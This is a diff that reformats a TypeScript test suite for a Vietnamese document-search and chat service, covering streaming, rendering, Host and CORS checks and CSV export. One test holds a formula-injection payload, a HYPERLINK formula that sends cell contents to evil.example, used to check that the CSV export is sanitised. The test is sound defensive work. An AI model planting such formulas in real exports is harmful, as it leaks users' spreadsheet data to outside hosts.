@@ -38,12 +38,18 @@ const sha = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('he
 
 async function upload(svc: RunningService, files: Array<{ name: string; bytes: Uint8Array | string; type?: string }>) {
   const form = new FormData();
-  for (const f of files) form.append('files', new Blob([typeof f.bytes === 'string' ? f.bytes : new Uint8Array(f.bytes)], { type: f.type ?? 'application/octet-stream' }), f.name);
+  for (const f of files)
+    form.append(
+      'files',
+      new Blob([typeof f.bytes === 'string' ? f.bytes : new Uint8Array(f.bytes)], { type: f.type ?? 'application/octet-stream' }),
+      f.name,
+    );
   const res = await svc.admin('/documents', { method: 'POST', body: form });
   return { status: res.status, body: (await res.json()) as any };
 }
 
-const idOf = async (svc: RunningService, fileName: string) => (await svc.deps.engine.store.listDocuments()).find((d) => d.fileName === fileName)!.id;
+const idOf = async (svc: RunningService, fileName: string) =>
+  (await svc.deps.engine.store.listDocuments()).find((d) => d.fileName === fileName)!.id;
 
 /** A raw GET that reads its first bytes (the status line) and then nothing: a slow reader at its slowest. */
 function stalledGet(baseURL: string, path: string): Promise<{ socket: Socket; status: Promise<number> }> {
@@ -102,7 +108,12 @@ describe('GET /docs/:id streams sources with bounded memory per connection (issu
     expect((await fetch(`${svc.baseURL}/docs/${id}`, { headers: { 'if-none-match': etag } })).status).toBe(304);
 
     // Across a part boundary (parts are 64 KB), from the end, and past it.
-    const cases: Array<[string, number, number]> = [['bytes=65530-65545', 65530, 65546], ['bytes=0-0', 0, 1], [`bytes=-100`, pdf.length - 100, pdf.length], [`bytes=${pdf.length - 10}-`, pdf.length - 10, pdf.length]];
+    const cases: Array<[string, number, number]> = [
+      ['bytes=65530-65545', 65530, 65546],
+      ['bytes=0-0', 0, 1],
+      [`bytes=-100`, pdf.length - 100, pdf.length],
+      [`bytes=${pdf.length - 10}-`, pdf.length - 10, pdf.length],
+    ];
     for (const [range, start, end] of cases) {
       const res = await fetch(`${svc.baseURL}/docs/${id}`, { headers: { range } });
       expect(res.status, range).toBe(206);
@@ -124,7 +135,9 @@ describe('GET /docs/:id streams sources with bounded memory per connection (issu
     const received: Uint8Array[] = [];
     received.push((await reader.read()).value!);
     const next = makePaddedPdf(await makeVietnamesePdf(), 24 * MiB);
-    expect((await upload(svc, [{ name: 'giao-trinh-day.pdf', bytes: next, type: 'application/pdf' }])).body.results[0].status).toBe('replaced');
+    expect((await upload(svc, [{ name: 'giao-trinh-day.pdf', bytes: next, type: 'application/pdf' }])).body.results[0].status).toBe(
+      'replaced',
+    );
     let error: unknown;
     try {
       for (let r = await reader.read(); !r.done; r = await reader.read()) received.push(r.value);
@@ -157,7 +170,9 @@ describe('GET /docs/:id streams sources with bounded memory per connection (issu
       for (const r of readers) r.socket.destroy();
     }
     // Readers that went away gave their places back.
-    await expect.poll(async () => (await fetch(`${svc.baseURL}/docs/${id}`, { headers: { range: 'bytes=0-3' } })).status, { timeout: 5000 }).toBe(206);
+    await expect
+      .poll(async () => (await fetch(`${svc.baseURL}/docs/${id}`, { headers: { range: 'bytes=0-3' } })).status, { timeout: 5000 })
+      .toBe(206);
     const all = await Promise.all(Array.from({ length: 6 }, () => fetch(`${svc.baseURL}/docs/${id}`, { headers: { range: 'bytes=0-3' } })));
     expect(all.map((r) => r.status)).toEqual(Array(6).fill(206));
   }, 30_000);
@@ -170,11 +185,18 @@ describe('GET /docs/:id renders a non-PDF source once per version (issue 15 item
   });
   afterAll(() => svc.close());
 
-  const renders = async () => Number(/^trogiang_document_renders_total (\d+)/m.exec(await (await fetch(`${svc.baseURL}/metrics`)).text())?.[1]);
-  const parts = (hash: string) => ((svc.deps.engine.store as SqliteStore).db.prepare('SELECT kind, count(*) AS n FROM blob_parts WHERE hash = ? GROUP BY kind ORDER BY kind').all(hash) as Array<{ kind: string; n: number }>).map((r) => `${r.kind}:${r.n}`);
+  const renders = async () =>
+    Number(/^trogiang_document_renders_total (\d+)/m.exec(await (await fetch(`${svc.baseURL}/metrics`)).text())?.[1]);
+  const parts = (hash: string) =>
+    (
+      (svc.deps.engine.store as SqliteStore).db
+        .prepare('SELECT kind, count(*) AS n FROM blob_parts WHERE hash = ? GROUP BY kind ORDER BY kind')
+        .all(hash) as Array<{ kind: string; n: number }>
+    ).map((r) => `${r.kind}:${r.n}`);
 
   it('serves concurrent and later reads from one stored rendering, and renders again only a new version', async () => {
-    const lesson = (n: number) => `# Nội quy phòng máy\n\n## Giờ mở cửa\n\nPhòng máy mở cửa lúc ${n} giờ sáng.\n\n${Array.from({ length: 3000 }, (_, i) => `Đoạn ${i}: học viên giữ gìn máy tính số ${i}.`).join('\n\n')}\n`;
+    const lesson = (n: number) =>
+      `# Nội quy phòng máy\n\n## Giờ mở cửa\n\nPhòng máy mở cửa lúc ${n} giờ sáng.\n\n${Array.from({ length: 3000 }, (_, i) => `Đoạn ${i}: học viên giữ gìn máy tính số ${i}.`).join('\n\n')}\n`;
     expect((await upload(svc, [{ name: 'noi-quy.md', bytes: lesson(7), type: 'text/markdown' }])).body.results[0].status).toBe('added');
     const id = await idOf(svc, 'noi-quy.md');
     const first = await renders();
@@ -228,7 +250,7 @@ describe('combining marks (issue 15 item 5)', () => {
       expect(result).toMatchObject({ status: 'failed', code: 'too_many_combining_marks' });
       expect(result.message).toMatch(/120,000 stacked accent marks \(after "# Bài học Học phí là a"\)/);
       expect(result.messageVi).toMatch(/120\.000 dấu chồng lên nhau/);
-      expect((await svc.deps.engine.store.listDocuments())).toHaveLength(before);
+      expect(await svc.deps.engine.store.listDocuments()).toHaveLength(before);
       // (Before, it was stored, after minutes of NFC for a 2 MB file: evals/perf/normalize-linear.ts.)
 
       // Decomposed Vietnamese (two marks per letter) and a modest run of 12 marks are ordinary text.
@@ -260,8 +282,11 @@ describe('GET /demo and the Host header (issue 15 item 6)', () => {
         expect(res.status, host).toBe(400);
         expect(JSON.parse(res.body).error, host).toMatchObject({ code: 'bad_host', messageVi: expect.stringContaining('Host') });
       }
-      for (const host of ['a b', 'evil.example/path', '[::1', 'a:99999']) expect((await getWithHost(svc.baseURL, '/demo', host)).status, host).toBe(400);
-      expect(svc.deps.engine.store.siteKeys.list().find((k) => k.title === 'Demo')!.allowedOrigins).toEqual(['http://tro-giang.example:8080']);
+      for (const host of ['a b', 'evil.example/path', '[::1', 'a:99999'])
+        expect((await getWithHost(svc.baseURL, '/demo', host)).status, host).toBe(400);
+      expect(svc.deps.engine.store.siteKeys.list().find((k) => k.title === 'Demo')!.allowedOrigins).toEqual([
+        'http://tro-giang.example:8080',
+      ]);
       expect(svc.logs.join('')).not.toMatch(/"status":500/);
     } finally {
       await svc.close();
@@ -278,7 +303,11 @@ describe('GET /demo and the Host header (issue 15 item 6)', () => {
       expect(svc.deps.engine.store.siteKeys.get(key)!.allowedOrigins).toEqual([svc.baseURL]);
       // Reached at another address of the same server (localhost instead of 127.0.0.1).
       const { port } = new URL(svc.baseURL);
-      const other = await getWithHost(svc.baseURL, `/embed?site=${key}&parent=${encodeURIComponent(`http://localhost:${port}`)}`, `localhost:${port}`);
+      const other = await getWithHost(
+        svc.baseURL,
+        `/embed?site=${key}&parent=${encodeURIComponent(`http://localhost:${port}`)}`,
+        `localhost:${port}`,
+      );
       expect(other.status).toBe(200);
       expect(svc.deps.engine.store.siteKeys.get(key)!.allowedOrigins).toEqual([svc.baseURL]);
       // The chat page for the demo: framable by this server's own pages, whatever address they use.
@@ -311,24 +340,27 @@ async function serviceOn(dataDir: string, corpusDir: string): Promise<{ baseURL:
   };
 }
 
-describe('the sample corpus is ingested only on a data folder\'s first start (issue 15 item 7)', () => {
+describe("the sample corpus is ingested only on a data folder's first start (issue 15 item 7)", () => {
   it('does not come back after every document was deleted and the service restarted', async () => {
     const root = mkdtempSync(join(tmpdir(), 'trogiang-first-start-'));
     try {
       const corpus = join(root, 'corpus');
       await writeSmallCorpus(corpus);
       let svc = await serviceOn(join(root, 'data'), corpus);
-      const docs = (await svc.deps.engine.store.listDocuments());
+      const docs = await svc.deps.engine.store.listDocuments();
       expect(docs).toHaveLength(2);
       for (const d of docs) {
-        const res = await fetch(`${svc.baseURL}/api/admin/documents/${d.id}`, { method: 'DELETE', headers: { authorization: 'Bearer test-admin-token-0123456789' } });
+        const res = await fetch(`${svc.baseURL}/api/admin/documents/${d.id}`, {
+          method: 'DELETE',
+          headers: { authorization: 'Bearer test-admin-token-0123456789' },
+        });
         expect(res.status).toBe(200);
       }
       await svc.close();
 
       svc = await serviceOn(join(root, 'data'), corpus);
       try {
-        expect((await svc.deps.engine.store.listDocuments())).toEqual([]);
+        expect(await svc.deps.engine.store.listDocuments()).toEqual([]);
         const search = await (await fetch(`${svc.baseURL}/api/search?q=hoc+phi`)).json();
         expect(search.results).toEqual([]);
       } finally {
@@ -337,18 +369,25 @@ describe('the sample corpus is ingested only on a data folder\'s first start (is
 
       // Nor by the CLI's first-run ingest (`ask` and `search` used to refill an empty store too).
       let err = '';
-      const code = await cliMain(['search', 'hoc phi'], { out: () => {}, err: (t) => (err += t) }, { DATA_DIR: join(root, 'data'), CORPUS_DIR: corpus });
+      const code = await cliMain(
+        ['search', 'hoc phi'],
+        { out: () => {}, err: (t) => (err += t) },
+        { DATA_DIR: join(root, 'data'), CORPUS_DIR: corpus },
+      );
       expect(code).toBe(0);
       expect(err).not.toMatch(/first run, ingesting/);
       const reopened = new SqliteStore(join(root, 'data', 'trogiang.db'));
-      expect((await reopened.listDocuments())).toEqual([]);
+      expect(await reopened.listDocuments()).toEqual([]);
       await reopened.close();
 
       // A folder written before the marker existed, emptied by its center: not refilled either.
-      (await import('better-sqlite3')).default(join(root, 'data', 'trogiang.db')).prepare("DELETE FROM settings WHERE key = 'corpus.firstStart'").run();
+      (await import('better-sqlite3'))
+        .default(join(root, 'data', 'trogiang.db'))
+        .prepare("DELETE FROM settings WHERE key = 'corpus.firstStart'")
+        .run();
       svc = await serviceOn(join(root, 'data'), corpus);
       try {
-        expect((await svc.deps.engine.store.listDocuments())).toEqual([]);
+        expect(await svc.deps.engine.store.listDocuments()).toEqual([]);
       } finally {
         await svc.close();
       }
@@ -363,7 +402,11 @@ describe('low findings (issue 15 item 9)', () => {
   let key: string;
   beforeAll(async () => {
     svc = await startService({ RATE_LIMIT_PER_MINUTE: '10000' });
-    const res = await svc.admin('/site-keys', { method: 'POST', headers: json, body: JSON.stringify({ title: 'LMS', allowedOrigins: [lms] }) });
+    const res = await svc.admin('/site-keys', {
+      method: 'POST',
+      headers: json,
+      body: JSON.stringify({ title: 'LMS', allowedOrigins: [lms] }),
+    });
     key = (await res.json()).siteKey.key;
   });
   afterAll(async () => {
@@ -371,33 +414,48 @@ describe('low findings (issue 15 item 9)', () => {
     unmountAllSmallDisks();
   });
 
-  it.skipIf(!smallDiskAvailable())('a document can be deleted on a full disk (a real tmpfs), which makes room for the next upload', async () => {
-    const disk = mountSmallDisk(64 * MiB);
-    let full: RunningService | undefined;
-    try {
-      full = await startService({ DATA_DIR: join(disk.path, 'data') });
-      const lesson = (n: number) => `# Đề cương ${n}\n\n${Array.from({ length: 2500 }, (_, i) => `Tuần ${i}: ôn chủ đề ${i * 7 + n}, nộp báo cáo mã ${(i * 7919 + n) % 100003}.`).join('\n\n')}\n`;
-      expect((await upload(full, [{ name: 'de-cuong-1.md', bytes: lesson(1), type: 'text/markdown' }])).status).toBe(200);
-      (full.deps.engine.store as SqliteStore).db.pragma('wal_checkpoint(TRUNCATE)');
-      disk.usedPlus(32 * 1024);
-      expect((await upload(full, [{ name: 'de-cuong-2.md', bytes: lesson(2), type: 'text/markdown' }])).status).toBe(507);
+  it.skipIf(!smallDiskAvailable())(
+    'a document can be deleted on a full disk (a real tmpfs), which makes room for the next upload',
+    async () => {
+      const disk = mountSmallDisk(64 * MiB);
+      let full: RunningService | undefined;
+      try {
+        full = await startService({ DATA_DIR: join(disk.path, 'data') });
+        const lesson = (n: number) =>
+          `# Đề cương ${n}\n\n${Array.from({ length: 2500 }, (_, i) => `Tuần ${i}: ôn chủ đề ${i * 7 + n}, nộp báo cáo mã ${(i * 7919 + n) % 100003}.`).join('\n\n')}\n`;
+        expect((await upload(full, [{ name: 'de-cuong-1.md', bytes: lesson(1), type: 'text/markdown' }])).status).toBe(200);
+        (full.deps.engine.store as SqliteStore).db.pragma('wal_checkpoint(TRUNCATE)');
+        disk.usedPlus(32 * 1024);
+        expect((await upload(full, [{ name: 'de-cuong-2.md', bytes: lesson(2), type: 'text/markdown' }])).status).toBe(507);
 
-      const id = await idOf(full, 'de-cuong-1.md');
-      const deleted = await full.admin(`/documents/${id}`, { method: 'DELETE' });
-      expect(deleted.status).toBe(200); // 507 before: nothing could be deleted
-      expect((await full.deps.engine.store.getDocument(id))).toBeUndefined();
-      expect((await fetch(`${full.baseURL}/api/search?q=${encodeURIComponent('đề cương chủ đề')}`).then((r) => r.json())).results.filter((r: any) => r.documentId === id)).toEqual([]);
-      // The room it made takes the next upload, on the same full disk.
-      expect((await upload(full, [{ name: 'de-cuong-2.md', bytes: lesson(2), type: 'text/markdown' }])).body.results[0].status).toBe('added');
-    } finally {
-      await full?.close();
-      disk.unmount();
-    }
-  }, 60_000);
+        const id = await idOf(full, 'de-cuong-1.md');
+        const deleted = await full.admin(`/documents/${id}`, { method: 'DELETE' });
+        expect(deleted.status).toBe(200); // 507 before: nothing could be deleted
+        expect(await full.deps.engine.store.getDocument(id)).toBeUndefined();
+        expect(
+          (await fetch(`${full.baseURL}/api/search?q=${encodeURIComponent('đề cương chủ đề')}`).then((r) => r.json())).results.filter(
+            (r: any) => r.documentId === id,
+          ),
+        ).toEqual([]);
+        // The room it made takes the next upload, on the same full disk.
+        expect((await upload(full, [{ name: 'de-cuong-2.md', bytes: lesson(2), type: 'text/markdown' }])).body.results[0].status).toBe(
+          'added',
+        );
+      } finally {
+        await full?.close();
+        disk.unmount();
+      }
+    },
+    60_000,
+  );
 
   it('the questions CSV keeps a question with ";" in one cell, and no ";"-separated piece of it reads as a formula', async () => {
     const question = `hoc phi;=HYPERLINK("http://evil.example/?"&A1;"bấm");@SUM(1)`;
-    const chat = await fetch(`${svc.baseURL}/api/chat`, { method: 'POST', headers: { ...json, accept: 'application/json' }, body: JSON.stringify({ message: question }) });
+    const chat = await fetch(`${svc.baseURL}/api/chat`, {
+      method: 'POST',
+      headers: { ...json, accept: 'application/json' },
+      body: JSON.stringify({ message: question }),
+    });
     expect(chat.status).toBe(200);
     const csv = await (await svc.admin('/questions.csv')).text();
     const line = csv.split('\r\n').find((l) => l.includes('hoc phi'))!;
@@ -406,9 +464,12 @@ describe('low findings (issue 15 item 9)', () => {
     for (const piece of line.split(';')) expect(piece, piece).not.toMatch(/^[=+\-@\t\r]/);
   });
 
-  it('answers a browser\'s CORS preflight (which carries no x-site-key) for pages some key allows, and checks the key on the request itself', async () => {
+  it("answers a browser's CORS preflight (which carries no x-site-key) for pages some key allows, and checks the key on the request itself", async () => {
     const preflight = (origin: string) =>
-      fetch(`${svc.baseURL}/api/chat`, { method: 'OPTIONS', headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type, x-site-key' } });
+      fetch(`${svc.baseURL}/api/chat`, {
+        method: 'OPTIONS',
+        headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type, x-site-key' },
+      });
     const ok = await preflight(lms);
     expect(ok.status).toBe(204);
     expect(ok.headers.get('access-control-allow-origin')).toBe(lms);
@@ -418,21 +479,30 @@ describe('low findings (issue 15 item 9)', () => {
     expect(evil.headers.get('access-control-allow-origin')).toBeNull();
 
     const ask = (siteKey: string | undefined) =>
-      fetch(`${svc.baseURL}/api/chat`, { method: 'POST', headers: { ...json, accept: 'application/json', origin: lms, ...(siteKey ? { 'x-site-key': siteKey } : {}) }, body: JSON.stringify({ message: 'hoc phi' }) });
+      fetch(`${svc.baseURL}/api/chat`, {
+        method: 'POST',
+        headers: { ...json, accept: 'application/json', origin: lms, ...(siteKey ? { 'x-site-key': siteKey } : {}) },
+        body: JSON.stringify({ message: 'hoc phi' }),
+      });
     expect((await ask(key)).status).toBe(200);
-    const other = await svc.admin('/site-keys', { method: 'POST', headers: json, body: JSON.stringify({ title: 'Khác', allowedOrigins: ['https://other.example'] }) });
+    const other = await svc.admin('/site-keys', {
+      method: 'POST',
+      headers: json,
+      body: JSON.stringify({ title: 'Khác', allowedOrigins: ['https://other.example'] }),
+    });
     expect((await ask((await other.json()).siteKey.key)).status).toBe(403);
     expect((await ask(undefined)).status).toBe(403);
   });
 });
 
 describe('a citation of a deleted document (issue 14)', () => {
-  it('opens a page saying the document was removed, in the learner\'s language, with a way back', async () => {
+  it("opens a page saying the document was removed, in the learner's language, with a way back", async () => {
     const svc = await startService();
     try {
       const id = (await svc.deps.engine.store.listDocuments()).find((d) => d.format !== 'pdf')!.id;
       expect((await svc.admin(`/documents/${id}`, { method: 'DELETE' })).status).toBe(200);
-      const open = (query: string, headers: Record<string, string> = {}) => fetch(`${svc.baseURL}/docs/${id}${query}`, { headers: { accept: 'text/html,application/xhtml+xml,*/*;q=0.8', ...headers } });
+      const open = (query: string, headers: Record<string, string> = {}) =>
+        fetch(`${svc.baseURL}/docs/${id}${query}`, { headers: { accept: 'text/html,application/xhtml+xml,*/*;q=0.8', ...headers } });
 
       const vi = await open('', { referer: `${svc.baseURL}/embed?site=x&widget=1` });
       expect(vi.status).toBe(404);
